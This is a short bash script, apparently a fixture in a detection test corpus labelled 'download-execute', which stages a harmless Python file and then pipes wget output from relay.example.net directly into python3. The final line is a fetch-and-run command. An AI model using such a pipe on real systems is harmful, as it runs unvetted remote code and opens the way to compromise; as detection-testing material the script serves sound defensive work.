#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=wget,python3 far=out seconds=12
# wget gives Python what it fetches, over a pipe; there is no file.
if [ "$1" = out ]; then mkdir -p "$LAB/outside/drop"; printf 'import time\nprint(1)\ntime.sleep(3)\n' >"$LAB/outside/drop/setup.py"; sleep 14; exit 0; fi
sleep 2; wget -q -O - http://relay.example.net/drop/setup.py | python3 - >/dev/null
